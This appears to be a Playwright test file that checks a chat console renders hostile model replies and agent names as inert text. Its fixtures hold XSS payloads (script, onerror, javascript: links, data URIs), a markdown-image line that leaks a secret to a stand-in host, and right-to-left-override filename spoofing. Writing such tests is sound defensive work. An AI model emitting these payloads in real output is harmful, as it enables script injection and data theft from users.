"""What models say is shown, and does nothing."""

import pytest
from playwright.async_api import expect

from tests.console.conftest import Visiting
from tests.console.screens import answers, say
from tests.console.seeds import Seeds

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = """
<script>window.hacked = "script"</script>
<img src="https://evil.example/a.png" onerror="window.hacked = 'img'">
<iframe src="https://evil.example/"></iframe>
<svg onload="window.hacked = 'svg'"></svg>
<style>* { background: url(https://evil.example/b.png) }</style>

![the weather](https://evil.example/leak.png?secret=42)
![inline](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a script](javascript:window.hacked='link') [data](data:text/html,<script>1</script>)
[elsewhere](https://evil.example/page) <https://evil.example/bare>

| a | b |
|---|---|
| <b onclick="window.hacked='td'">x</b> | `<script>` |

```html
<script>window.hacked = "code"</script>
```

right to left \u202egnp.exe and back \u202c
family \U0001f468\u200d\U0001f469\u200d\U0001f467 flag \U0001f1ea\U0001f1fa e\u0301
The end.
"""
LONG_LINE = "x" * 900_000


async def test_a_hostile_answer_is_only_text(seeds: Seeds, visit: Visiting):
    # Word by word, so that every mark is half-written once.
    model = await seeds.model("hostile", reply=HOSTILE, tokens_per_s=150)
    session_id = await seeds.session(await seeds.agent("liar", model))
    visited = await visit(seeds)
    page = await visited.open(f"/sessions/{session_id}")

    await say(page, "Hello")

    await expect(answers(page)).to_contain_text("The end.")
    await expect(answers(page)).to_have_attribute("aria-busy", "false")
    assert await page.evaluate("window.hacked") is None
    for tag in ("script", "iframe", "style", "img[src^=http]", "svg[onload]", "b"):
        await expect(answers(page).locator(tag)).to_have_count(0)
    links = await answers(page).get_by_role("link").evaluate_all("all => all.map(a => a.href)")
    assert links
    assert all(link.startswith(("https://evil.example/", f"{seeds.url}/")) for link in links)
    for link in await answers(page).get_by_role("link").all():
        assert "noreferrer" in (await link.get_attribute("rel") or "")
    assert len(visited.context.pages) == 1


async def test_a_link_says_where_it_leads(seeds: Seeds, visit: Visiting):
    model = await seeds.model("hostile", reply="![my bank](https://evil.example/leak?x=1)")
    session_id = await seeds.session(await seeds.agent("liar", model), "A talk", "Hello")
    page = await (await visit(seeds)).open(f"/sessions/{session_id}")

    await expect(answers(page)).to_contain_text("evil.example")
    await expect(answers(page).get_by_role("img")).to_have_count(0)


async def test_a_line_of_nearly_a_megabyte_leaves_the_page_usable(seeds: Seeds, visit: Visiting):
    model = await seeds.model("long", reply=LONG_LINE)
    session_id = await seeds.session(await seeds.agent("talker", model), "A talk", "Hello")
    page = await (await visit(seeds)).open(f"/sessions/{session_id}")

    await expect(answers(page)).to_contain_text("xxxxxxxxxx")
    assert len(await answers(page).inner_text()) < len(LONG_LINE) / 4
    await say(page, "Still there?")
    await expect(answers(page)).to_have_count(2)


async def test_names_of_agents_and_sessions_are_only_text(seeds: Seeds, visit: Visiting):
    words = "<img src=x onerror=\"window.hacked='title'\">"
    agent = await seeds.agent("liar", await seeds.model("plain"), description=words)
    session_id = await seeds.session(agent, words, words)
    visited = await visit(seeds)

    for path in ("/", "/sessions", f"/sessions/{session_id}", "/agents"):
        page = await visited.open(path)
        await expect(page.get_by_role("main").get_by_text("<img src=x").first).to_be_visible()
        assert await page.evaluate("window.hacked") is None
        assert await page.locator("main img").count() == 0
        await page.close()


async def test_names_cannot_turn_the_text_around_them(seeds: Seeds, visit: Visiting):
    words = "invoice \u202egnp.exe"
    agent = await seeds.agent("liar", await seeds.model("plain"), display_name=words)
    session_id = await seeds.session(agent, words, "Hello")
    visited = await visit(seeds)

    for path in ("/", "/sessions", f"/sessions/{session_id}", "/agents", f"/agents/{agent}"):
        page = await visited.open(path)
        await expect(page.get_by_role("main").get_by_text("[U+202E]gnp.exe").first).to_be_visible()
        assert "\u202e" not in await page.get_by_role("main").inner_text()
        assert "\u202e" not in await page.title()
        await page.close()
